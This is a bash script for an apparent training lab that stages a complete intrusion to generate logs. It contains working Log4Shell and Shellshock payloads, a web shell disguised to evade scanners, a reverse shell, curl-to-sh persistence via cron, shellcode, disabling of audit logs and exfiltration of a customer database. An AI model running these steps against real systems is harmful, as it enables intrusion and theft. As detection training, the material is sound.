# shellcheck shell=bash disable=SC2016,SC2034,SC2154
# The attack, step by step. step() notes when each began; the notes become the table in the README.
# Everything is bounded in count and time; passwords and payloads are the ones every guesser knows.

WWW=http://www.example.com
FILES=http://files.example.com
INTRUDER=203.0.113.66

step() {
    printf '%(%FT%TZ)T\t%s\n' -1 "$*" >>"$LAB/run/steps.tsv"
    lab_say "  $*"
}

attack_all() {
    attack_prepare
    sleep 60
    step 'ordinary day: logs of web01 and mail01 are rotated by logrotate'
    attack_rotate
    sleep 20
    attack_slow_guess &
    PEOPLE+=($!)
    attack_scan_ports
    attack_scan_web
    attack_exploit_web
    attack_web_shell
    attack_rotate
    attack_database
    attack_guess_passwords
    attack_take_bastion
    attack_take_database
    attack_spam
    attack_malware
    attack_file_names
}

# logrotate's own scripts want a service manager to tell the daemons, so that is done here.
attack_rotate() {
    on web01 sh -c 'logrotate --force /etc/logrotate.d/nginx 2>/dev/null; nginx -s reopen'
    on mail01 sh -c 'logrotate --force /etc/logrotate.d/rsyslog 2>/dev/null; kill -HUP "$(cat /run/rsyslogd.pid)"'
}

# What the intruder brings: two word lists, a web shell and a script for spam, served on its own port 8000.
attack_prepare() {
    file_on attacker /home/guest/users <<<"$(printf '%s\n' root admin test oracle ubuntu postgres git deploy user guest ftp mysql pi nagios backup kenji)"
    file_on attacker /home/guest/passwords <<<"$(printf '%s\n' 123456 password admin 12345678 qwerty root letmein 111111 \
        dragon monkey iloveyou sunshine princess welcome abc123 football charlie sakura123)"
    # Put together here so that no scanner takes this script for what it makes.
    printf '<?php sys%s($_REQUEST["cmd"]);\n' tem | file_on attacker /home/guest/catalogue.php
    file_on attacker /srv/http/m.sh <<-'EOF'
	i=0
	while [ $i -lt 70 ]; do
	    i=$((i + 1))
	    printf 'From: Mary <mary@example.com>\nTo: customer%s@partner.example\nSubject: URGENT your invoice is overdue, confirm your bank account\n\nhttp://203.0.113.66:8000/pay?c=%s\n' $i $i |
	        curl -s smtp://mail.example.com --mail-from mary@example.com --mail-rcpt customer$i@partner.example -T -
	done
	EOF
    echo 'exit 0' | file_on attacker /srv/http/c
    on attacker sh -c 'cd /srv/http && python3 -m http.server 8000 >/dev/null 2>&1 &'
    as guest attacker sh -c 'mkdir -m 700 -p ~/.ssh && ssh-keygen -q -t ed25519 -N "" -C root@localhost -f ~/.ssh/id_ed25519'
}

# Another address that tries for minutes, slowly, and never gets in.
attack_slow_guess() {
    local name
    for name in admin root support test admin oracle root postgres ubuntu admin root info; do
        on prober sshpass -p "${name}123" "${SSH[@]}" -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
            "$name@ssh.example.com" true >/dev/null 2>&1 || true
        sleep 18
    done
}

attack_scan_ports() {
    step "$INTRUDER scans the DMZ's ports with nmap (SYN)"
    on attacker timeout 60 nmap -n -Pn -sS -F --max-retries 1 -T4 10.66.10.5 10.66.10.10 10.66.10.11 10.66.10.25 >/dev/null 2>&1 || true
    step "$INTRUDER asks the open ports for versions with nmap -sV and its HTTP scripts"
    on attacker timeout 60 nmap -n -Pn -sV -p 22,25,80 --script http-title,http-methods,http-git,http-robots.txt,http-headers \
        10.66.10.5 10.66.10.10 10.66.10.11 10.66.10.25 >/dev/null 2>&1 || true
}

attack_scan_web() {
    step "$INTRUDER runs nikto against web01 (nginx)"
    on attacker timeout 60 nikto -host $WWW -maxtime 25s -nointeractive -ask no >/dev/null 2>&1 || true
    step "$INTRUDER looks for files on web01 with gobuster"
    on attacker timeout 60 gobuster dir --quiet --no-progress --url $WWW --wordlist /usr/share/dirb/wordlists/small.txt --threads 4 \
        >/dev/null 2>&1 || true
    step "$INTRUDER runs wapiti against web02 (Apache, ModSecurity watching)"
    on attacker timeout 60 wapiti --url "$FILES/docs/index.html" --scope domain --flush-session --max-scan-time 25 \
        --module exec,file,sql,xss,shellshock,nikto --no-bugreport --output /tmp/wapiti >/dev/null 2>&1 || true
}

probe() { on attacker curl -s -o /dev/null --max-time 5 "$@" || true; }

attack_exploit_web() {
    step "$INTRUDER tries path traversal, Log4Shell and Shellshock on both web servers"
    probe --path-as-is "$WWW/../../../../etc/passwd"
    probe "$WWW/view.php?page=../../../etc/passwd"
    probe "$WWW/view.php?page=..%2f..%2f..%2fetc%2fhosts"
    probe --path-as-is "$FILES/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"
    probe --path-as-is "$FILES/cgi-bin/%2e%2e/%2e%2e/bin/sh" -d 'echo;id'
    probe -A '${jndi:ldap://203.0.113.66:1389/a}' "$WWW/"
    probe -e '${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/b}' "$WWW/search.php?q=\$%7Bjndi:ldap://203.0.113.66:1389/c%7D"
    probe -A '() { :; }; /bin/bash -c "curl http://203.0.113.66:8000/c"' "$FILES/cgi-bin/status"
    probe "$WWW/?x=%3Cscript%3Ealert(1)%3C/script%3E"
    probe "$WWW/.env"
    probe "$WWW/.git/config"
    probe "$WWW/wp-login.php"
    step "$INTRUDER reads the shop's customers by SQL injection with sqlmap"
    on attacker timeout 90 sqlmap --batch --url "$WWW/product.php?id=1" --level 1 --risk 1 --threads 2 --dbms mysql -D shop -T customers --dump \
        --output-dir /tmp/sqlmap >/dev/null 2>&1 || true
}

shell_web() {
    on attacker curl -s -o /dev/null --max-time "${2:-10}" -G --data-urlencode "cmd=$1" -A 'Mozilla/5.0' "$WWW/uploads/catalogue.php" || true
    sleep 1
}

attack_web_shell() {
    step "$INTRUDER uploads a web shell to web01"
    probe -F 'document=@/home/guest/catalogue.php;filename=catalogue.php' "$WWW/upload.php"
    step "$INTRUDER uses the web shell: looks round, fetches a script from its own server"
    shell_web 'id'
    shell_web 'uname -a'
    shell_web 'cat /etc/passwd'
    shell_web 'ls -la /home; cat /srv/www/shop.php'
    shell_web 'curl -s -o /tmp/.m.sh http://203.0.113.66:8000/m.sh'
    shell_web 'nc -z -w1 -v 10.66.10.5 22-25 2>&1; nc -z -w1 10.66.10.5 3389; nc -z -w1 10.66.10.5 445; nc -z -w1 10.66.20.30 22'
    shell_web 'bash -c "exec 3<>/dev/tcp/203.0.113.66/4444" 2>&1'
}

attack_database() {
    local word
    step 'through the web shell, log-ins to MariaDB on db01 are guessed'
    for word in root toor mysql 123456 password admin shop; do
        shell_web "mariadb -h 10.66.20.30 -u root -p$word -e 'SELECT 1'; mariadb -h 10.66.20.30 -u admin -p$word -e 'SELECT 1'"
    done
    step 'through the web shell, a buffer overflow is thrown at the database port of db01'
    shell_web "python3 -c \"import socket;s=socket.create_connection(('10.66.20.30',3306),3);s.recv(200);s.send(b'\\x00\\x08\\x00\\x01\\x85\\xa6\\xff\\x01'+b'\\x90'*1200+b'\\x31\\xc0\\x50\\x68//sh\\x68/bin\\x89\\xe3\\x50\\x53\\x89\\xe1\\xb0\\x0b\\xcd\\x80'+b'A'*800)\""
}

attack_guess_passwords() {
    step "$INTRUDER guesses passwords at bastion01 with hydra: 16 names, 18 passwords"
    on attacker timeout 240 hydra -q -I -u -f -t 8 -L /home/guest/users -P /home/guest/passwords ssh://10.66.10.5 >/dev/null 2>&1 || true
}

# typed LINE…: types each line into a terminal, with the pauses of a person; @N waits N seconds.
typed() {
    local line
    trap '' PIPE    # the other end may hang up first
    sleep 2
    for line in "$@"; do
        case $line in
            @*) sleep "${line#@}" ;;
            *) printf '%s\n' "$line" 2>/dev/null && sleep 1.5 ;;
        esac
    done
}

# terminal PASSWORD USER: a log-in to bastion01 with a terminal, typed on standard input.
terminal() {
    on_in attacker timeout 120 sshpass -p "$1" "${SSH[@]}" -tt -o PubkeyAuthentication=no "$2@ssh.example.com" >/dev/null 2>&1 || true
}

attack_take_bastion() {
    local key
    key=$(on attacker cat /home/guest/.ssh/id_ed25519.pub)
    sleep 5
    step "$INTRUDER logs in to bastion01 as kenji; sudo and su are refused"
    typed 'id; w' 'echo sakura123 | sudo -S -p "" cat /etc/shadow' 'echo sakura123 | sudo -S -p "" su -' @1 'echo password | su - aiko -c id' \
        @2 'echo root | su - -c id' @2 'sudo -l' 'exit' @1 'exit' | terminal sakura123 kenji
    step "$INTRUDER, as kenji, gets a root shell through sudo find; adds an account, a key and a cron job; stops and restarts rsyslogd"
    typed 'sudo find /etc/hostname -exec /bin/bash \;' 'useradd -m -s /bin/bash -G sudo sysupd' 'echo sysupd:Upd4te-me | chpasswd' \
        "mkdir -p /root/.ssh; echo '$key' >>/root/.ssh/authorized_keys" \
        "echo '* * * * * curl -s http://203.0.113.66:8000/c | sh' | crontab -" 'crontab -l' 'cp /bin/bash /var/tmp/.cache; chmod 4755 /var/tmp/.cache' \
        'kill $(cat /run/rsyslogd.pid)' @25 'rsyslogd' 'unset HISTFILE' 'exit' @1 'exit' @1 'exit' | terminal sakura123 kenji
    step "$INTRUDER comes back with the new account sysupd and with root's new key"
    on attacker sshpass -p Upd4te-me "${SSH[@]}" -tt -o PubkeyAuthentication=no sysupd@ssh.example.com \
        'echo Upd4te-me | sudo -S -p "" id; echo Upd4te-me | sudo -S -p "" usermod -aG sudo kenji' >/dev/null 2>&1 || true
    as guest attacker "${SSH[@]}" root@ssh.example.com 'ls -la /home /home/aiko/.ssh' >/dev/null 2>&1 || true
}

# hop COMMAND: from bastion01, with the private key that was found there.
hop() {
    as guest attacker "${SSH[@]}" root@ssh.example.com \
        "ssh -o StrictHostKeyChecking=accept-new -i /home/aiko/.ssh/id_ed25519 aiko@db01 $(printf '%q' "$1")" >/dev/null 2>&1 || true
    sleep 2
}

attack_take_database() {
    step 'with the private key found on bastion01 the intruder enters db01 as aiko and reads what is there'
    hop 'id; uname -a; sudo cat /etc/shadow; sudo ls -la /root'
    hop 'curl -s --max-time 2 http://203.0.113.66:8000/c | bash; wget -q -T 2 -t 1 -O /tmp/.c http://203.0.113.66:8000/c; chmod +x /tmp/.c'
    step 'on db01 the customers are dumped into files with misleading names, an account is added'
    hop "sudo mariadb-dump shop customers | sudo tee /srv/export/\$'customers\\u202egnp.sql' >/dev/null"
    hop "sudo cp /srv/export/cust* '/srv/export/report.pdf          .sh'; sudo touch /srv/export/\$'list\\e[2J\\n.csv'; sudo tar czf /srv/export/.d.tgz -C /srv/export --exclude .d.tgz ."
    hop 'sudo useradd -u 2050 -m -s /bin/bash -G sudo mysqld; echo "mysqld ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/mysqld'
    step 'on db01 the audit configuration is changed: the execve rule removed, then the audit switched off'
    hop 'sudo auditctl -d always,exit -F arch=b64 -S execve -F "auid>=2000" -F "auid<3000" -k exec; sudo auditctl -e 0'
    step 'the dump is carried out over bastion01'
    on attacker sh -c 'timeout 60 nc -l -p 8080 >/tmp/loot 2>/dev/null &'
    as guest attacker "${SSH[@]}" root@ssh.example.com \
        'scp -q -i /home/aiko/.ssh/id_ed25519 aiko@db01:/srv/export/.d.tgz /tmp/.d.tgz; curl -s --max-time 5 -T /tmp/.d.tgz http://203.0.113.66:8080/' >/dev/null 2>&1 || true
}

attack_spam() {
    step 'through the web shell, mail in the name of mary is sent to 70 guessed addresses; it bounces'
    shell_web 'sh /tmp/.m.sh' 60
}

eicar() { printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-%s-TEST-FILE!$H+H*' ANTIVIRUS; }

attack_malware() {
    step "$INTRUDER mails the EICAR test file to three of the staff; clamav-milter refuses it"
    eicar | file_on attacker /tmp/invoice.pdf.com
    local name
    for name in aiko kenji mary; do
        on attacker swaks --silent 3 --server mail.example.com --helo mail.shop.example --from billing@shop.example --to "$name@example.com" \
            --header 'Subject: Invoice 88213' --body 'Please see the attached invoice.' --attach-type application/octet-stream \
            --attach-name 'invoice.pdf.com' --attach @/tmp/invoice.pdf.com >/dev/null 2>&1 || true
        sleep 2
    done
    step 'kenji copies the EICAR test file from a stick to his home on mail01; the clamscan that cron runs finds it'
    eicar | file_on ws02 /home/kenji/setup.exe
    as kenji ws02 sshpass -p sakura123 "${SSH[@]}" mail01 'mkdir -p Downloads' >/dev/null 2>&1 || true
    as kenji ws02 sshpass -p sakura123 scp -q -o StrictHostKeyChecking=accept-new /home/kenji/setup.exe mail01:Downloads/ >/dev/null 2>&1 || true
}

attack_file_names() {
    local name
    step "$INTRUDER guesses the partner's FTP password on web02 and uploads files with misleading names"
    for name in 123456 password partner1 partner; do
        on attacker curl -s -o /dev/null --max-time 10 --user "partner:$name" ftp://files.example.com/upload/ || true
    done
    for name in 'invoice%E2%80%AEfdp.exe' 'photo.jpg%20%20%20%20%20%20%20%20%20%20.scr' 'prices.csv.exe' '%20'; do
        on attacker curl -s --max-time 10 --user partner:partner -T /srv/http/c "ftp://files.example.com/upload/$name" || true
    done
}
